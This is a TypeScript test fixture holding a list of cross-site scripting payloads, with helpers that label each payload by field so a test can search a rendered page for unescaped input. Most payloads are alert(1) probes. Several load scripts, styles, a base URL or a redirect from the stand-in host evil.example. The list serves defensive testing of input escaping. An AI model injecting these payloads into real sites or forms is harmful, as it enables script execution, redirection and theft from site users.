/** What people have tried to make a browser run: text, attributes, styles, addresses, templates (SEC-X1). */
export const SCRIPT_STRINGS = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "</script><script>alert(1)</script>",
  "<script src=//evil.example/x.js></script>",
  "<script src=data:,alert(1)></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>alert`1`</script>",
  "<script>alert(1)<!--",
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  "<img/src/onerror=alert(1)>",
  "<img src=//evil.example/x.png>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<math><mi xlink:href=javascript:alert(1)>x",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "javascript:alert(1)",
  "<a href=javascript:alert(1)>x</a>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "data:text/html,<script>alert(1)</script>",
  "<video><source onerror=alert(1)>",
  "<form action=javascript:alert(1)><input type=submit>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<template><script>alert(1)</script></template>",
  "</title><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "{{alert(1)}}#{alert(1)}<%=alert(1)%>",
];

/** Ends with the name of its field, so that a page can be searched for it. */
export function scriptIn(field: string, index: number): string {
  return `${SCRIPT_STRINGS[index % SCRIPT_STRINGS.length]} ${field}${index}`;
}

/** A string that is parsed isn't shown, even if it swallows part of the next one. */
export const PER_FIELD = 4;
/** The fields of review writers begin here. The accounts that tests sign in with have lower numbers. */
export const FIRST_OF_WRITERS = 3 * PER_FIELD;

/** `from` is a multiple of `PER_FIELD`, so that the strings that are an address begin their field. */
export function scriptsIn(field: string, from: number): string {
  return Array.from({ length: PER_FIELD }, (_, index) => scriptIn(field, from + index)).join(" ");
}
